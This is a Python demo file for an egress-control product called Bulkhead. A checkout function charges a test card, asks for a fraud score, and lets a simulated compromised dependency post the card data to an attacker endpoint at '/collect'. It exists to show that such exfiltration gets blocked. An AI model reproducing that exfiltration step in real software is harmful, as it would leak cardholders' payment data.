"""What the demo's Python payments function does on every request, on all three clouds — the twin of
../../shared/checkout.cjs: charge the card through the payments API, ask the fraud-scoring service, and —
because one of its PyPI dependencies was compromised — try to post the card data to an attacker. Bulkhead
decides each connection; this file only reports what happened, in the Node function's shape. Destinations
come from the DEMO_*_URL variables set by the demo."""

from __future__ import annotations

import json
import os
import urllib.error
import urllib.request
from collections.abc import Callable, Mapping
from typing import Literal, TypedDict
from urllib.parse import urljoin, urlsplit

import analytics_lite  # the compromised dependency (site-packages/analytics_lite)

PAYLOAD: dict[str, object] = {'card': '4242 4242 4242 4242', 'amount': 1999}


class Outcome(TypedDict, total=False):
    outcome: Literal['allowed', 'denied', 'failed']
    status: int
    reason: str


class Attempt(Outcome, total=False):
    label: str
    host: str


def post(url: str) -> int:
    request = urllib.request.Request(
        url,
        data=json.dumps(PAYLOAD).encode(),
        headers={'content-type': 'application/json'},
        method='POST',
    )
    with urllib.request.urlopen(request, timeout=3) as response:
        response.read()
        return int(response.status)


# (label, variable, path, send)
DESTINATIONS: list[tuple[str, str, str, Callable[[str], int]]] = [
    ('charge card', 'DEMO_PAYMENTS_URL', '/v1/charges', post),
    ('fraud score', 'DEMO_FRAUD_URL', '/v1/score', post),
    # The compromised dependency (site-packages/analytics_lite) opens this one itself.
    ('compromised dependency', 'DEMO_EXFIL_URL', '/collect', lambda url: analytics_lite.track(url, PAYLOAD)),
]


def attempt(url: str, send: Callable[[str], int]) -> Outcome:
    try:
        return {'outcome': 'allowed', 'status': send(url)}
    except urllib.error.HTTPError as error:
        return {'outcome': 'allowed', 'status': error.code}  # the server answered: the call went out
    except OSError as error:
        # urllib wraps the socket error: Bulkhead's denial (EgressDenied, a PermissionError) is the reason.
        cause = error.reason if isinstance(error, urllib.error.URLError) else error
        if getattr(cause, 'code', None) == 'ERR_BULKHEAD_DENIED':
            return {'outcome': 'denied', 'reason': str(cause)}
        return {'outcome': 'failed', 'reason': f'{type(cause).__name__} {cause}'}


def checkout(env: Mapping[str, str] = os.environ) -> list[Attempt]:
    results: list[Attempt] = []
    for label, variable, path, send in DESTINATIONS:
        base = env.get(variable)
        if not base:
            continue
        url = urljoin(base, path)
        results.append({'label': label, 'host': urlsplit(url).hostname or '', **attempt(url, send)})
    return results
